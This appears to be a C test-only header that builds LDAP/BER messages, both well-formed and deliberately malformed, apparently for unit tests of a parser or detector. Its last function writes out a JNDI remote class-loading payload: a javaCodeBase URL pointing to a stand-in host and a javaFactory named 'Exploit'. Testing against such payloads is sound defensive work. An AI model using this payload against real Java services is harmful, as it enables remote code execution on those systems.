// SPDX-License-Identifier: GPL-2.0-or-later
// Makes LDAP messages, well-formed unless asked otherwise. Header-only; for test/unit only.
#pragma once
#include "talk.h"

// --- BER, with as many length octets as wanted ---

static inline void tlv(struct maker *m, uint8_t tag, struct bytes content, unsigned long_octets)
{
	MAKE(m, tag);
	if (!long_octets && content.left >= 0x80)
		long_octets = content.left > 0xffff ? 3 : content.left > 0xff ? 2 : 1;
	if (long_octets)
		MAKE(m, (uint8_t)(0x80 | long_octets));
	make_number(m, content.left, long_octets ? long_octets : 1);
	make(m, content.at, content.left);
}

static inline void octets(struct maker *m, const char *text)
{
	tlv(m, 0x04, bytes_of_text(text), 0);
}

static inline void attribute(struct maker *m, const char *type, struct bytes value)
{
	static struct maker seq, set;

	seq.n = set.n = 0;
	tlv(&set, 0x04, value, 0);
	octets(&seq, type);
	tlv(&seq, 0x31, made(&set), 0);
	tlv(m, 0x30, made(&seq), 0);
}

static inline void text_attribute(struct maker *m, const char *type, const char *value)
{
	attribute(m, type, bytes_of_text(value));
}

static inline void message(struct maker *m, uint8_t id, uint8_t op, struct bytes content, unsigned long_octets)
{
	static struct maker inner;

	inner.n = 0;
	tlv(&inner, 0x02, bytes_of(&id, 1), 0);
	tlv(&inner, op, content, long_octets);
	tlv(m, 0x30, made(&inner), long_octets);
}

static inline void entry(struct maker *m, const char *name, struct bytes attributes, unsigned long_octets)
{
	static struct maker op;

	op.n = 0;
	octets(&op, name);
	tlv(&op, 0x30, attributes, long_octets);
	message(m, 2, 0x64, made(&op), long_octets);
}

static inline void reference_attributes(struct maker *m)
{
	text_attribute(m, "javaClassName", "foo");
	text_attribute(m, "javaCodeBase", "http://198.51.100.7:8080/");
	text_attribute(m, "objectClass", "javaNamingReference");
	text_attribute(m, "javaFactory", "Exploit");
}
